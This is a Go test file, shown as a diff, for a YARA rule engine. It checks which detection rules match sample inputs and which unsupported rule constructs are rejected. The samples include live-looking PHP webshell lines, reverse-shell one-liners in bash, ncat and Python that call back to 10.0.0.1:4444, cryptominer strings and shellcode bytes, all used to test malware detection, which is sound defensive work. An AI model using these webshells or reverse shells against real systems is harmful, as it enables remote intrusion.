@@ -0,0 +1,205 @@
+package yara
+
+import (
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// The conformance tests run YARA rules written for libyara (testdata/conformance) over
+// samples, expecting the matches libyara reports, and check that the rules using constructs
+// outside of the supported subset (testdata/unsupported) are rejected.
+
+const eicar = `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`
+
+var elfHeader = "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 9)
+
+func TestConformance(t *testing.T) {
+	t.Parallel()
+
+	rules, err := Load([]string{filepath.Join("testdata", "conformance")})
+	require.NoError(t, err)
+
+	testCases := []struct {
+		name     string
+		data     string
+		expected map[string][]string // matched strings, by rule
+	}{
+		{
+			name:     "eicar",
+			data:     eicar + "\r\n",
+			expected: map[string][]string{"eicar_test_file": {"$eicar"}},
+		},
+		{
+			name:     "eicar not at 0",
+			data:     " " + eicar,
+			expected: map[string][]string{},
+		},
+		{
+			name: "miner",
+			data: elfHeader + "stratum+tcp://pool.example:3333\x00--Donate-Level=1\x00xmrig 6.18",
+			expected: map[string][]string{
+				"linux_coin_miner": {"$pool1", "$opt1", "$name"},
+			},
+		},
+		{
+			name:     "miner not fullword",
+			data:     elfHeader + "stratum+ssl://pool\x00c\x00r\x00y\x00p\x00t\x00o\x00n\x00i\x00g\x00h\x00t\x00libxmrig2.so",
+			expected: map[string][]string{},
+		},
+		{
+			name: "miner config",
+			data: `{"pools": [{"url": "pool.example.com:3333"}], "donate-level": 1}`,
+			expected: map[string][]string{
+				"miner_config": {"$a", "$b", "$c"},
+			},
+		},
+		{
+			name: "upx",
+			data: elfHeader + "UPX!\x11\x22\x33\x44\x0d\x05\x0c\x0a" + strings.Repeat("\x00", 32) + "UPX!",
+			expected: map[string][]string{
+				"upx_packed_elf": {"$magic", "$info"},
+			},
+		},
+		{
+			name:     "upx single magic",
+			data:     elfHeader + "UPX!\x11\x22\x33\x44\x0d\x05\x0c\x0a",
+			expected: map[string][]string{},
+		},
+		{
+			name: "webshell eval",
+			data: "<?php @eval(base64_decode($_POST['x'])); ?>",
+			expected: map[string][]string{
+				"php_webshell_eval": {"$php", "$eval"},
+			},
+		},
+		{
+			name: "webshell exec",
+			data: "<?PHP\nsystem($_GET['cmd']);",
+			expected: map[string][]string{
+				"php_webshell_exec": {"$php", "$exec"},
+			},
+		},
+		{
+			name:     "webshell not at 0",
+			data:     "\n<?php eval(gzinflate('x'));",
+			expected: map[string][]string{},
+		},
+		{
+			name: "bash reverse shell",
+			data: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+			expected: map[string][]string{
+				"reverse_shell_oneliner": {"$bash"},
+			},
+		},
+		{
+			name: "nc reverse shell",
+			data: "ncat -v 10.0.0.1 4444 -e /bin/bash",
+			expected: map[string][]string{
+				"reverse_shell_oneliner": {"$nc"},
+			},
+		},
+		{
+			name: "python reverse shell",
+			data: "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);os.dup2(s.fileno(),0)",
+			expected: map[string][]string{
+				"reverse_shell_oneliner": {"$python", "$dup"},
+			},
+		},
+		{
+			name:     "reverse shell to a host name",
+			data:     "bash -i >& /dev/tcp/example.com/4444 0>&1",
+			expected: map[string][]string{},
+		},
+		{
+			name:     "pe",
+			data:     "MZ" + strings.Repeat("\x00", 0x3a) + "\x40\x00\x00\x00PE\x00\x00",
+			expected: map[string][]string{"pe_file": nil},
+		},
+		{
+			name:     "pe header out of bounds",
+			data:     "MZ" + strings.Repeat("\x00", 0x3a) + "\x40\x01\x00\x00PE\x00\x00",
+			expected: map[string][]string{},
+		},
+		{
+			name: "shellcode",
+			data: "\x90\x90\xe8\x00\x00\x00\x00\x5d\x31\xc9\xb1\x10\x80\x74\x0d\xff\xe2\xfa",
+			expected: map[string][]string{
+				"shellcode_call_pop": {"$getpc", "$loop"},
+			},
+		},
+		{
+			name: "regexp bytes",
+			data: "\xe8\xc3\xa9\x01\x02\xc3\x90\xcc",
+			expected: map[string][]string{
+				"call_ret_bytes": {"$call", "$int3"},
+			},
+		},
+		{
+			name:     "decimal numbers",
+			data:     "\x7f\xff" + strings.Repeat("\x00", 8),
+			expected: map[string][]string{"small_magic": nil},
+		},
+	}
+
+	for _, tc := range testCases {
+		tc := tc
+
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+
+			matched := map[string][]string{}
+			for _, m := range rules.Scan([]byte(tc.data)) {
+				matched[m.Rule] = m.Strings
+			}
+			assert.Equal(t, tc.expected, matched)
+		})
+	}
+}
+
+func TestConformanceUnsupported(t *testing.T) {
+	t.Parallel()
+
+	testCases := []struct {
+		file     string
+		expected string
+	}{
+		{
+			file:     "pe_module.yar",
+			expected: "line 1: import isn't supported",
+		},
+		{
+			file:     "for_loop.yar",
+			expected: `line 5: "for" loops aren't supported`,
+		},
+		{
+			file:     "xor.yar",
+			expected: `line 3: string modifier "xor" isn't supported`,
+		},
+		{
+			file:     "base64.yar",
+			expected: `line 3: string modifier "base64" isn't supported`,
+		},
+		{
+			file:     "external.yar",
+			expected: `line 3: unknown identifier "filename" (external variables aren't supported)`,
+		},
+		{
+			file:     "offsets.yar",
+			expected: "line 5: string ranges ($a in (n..m)) aren't supported",
+		},
+	}
+
+	for _, tc := range testCases {
+		tc := tc
+
+		t.Run(tc.file, func(t *testing.T) {
+			t.Parallel()
+			_, err := Load([]string{filepath.Join("testdata", "unsupported", tc.file)})
+			assert.ErrorContains(t, err, tc.expected)
+		})
+	}
+}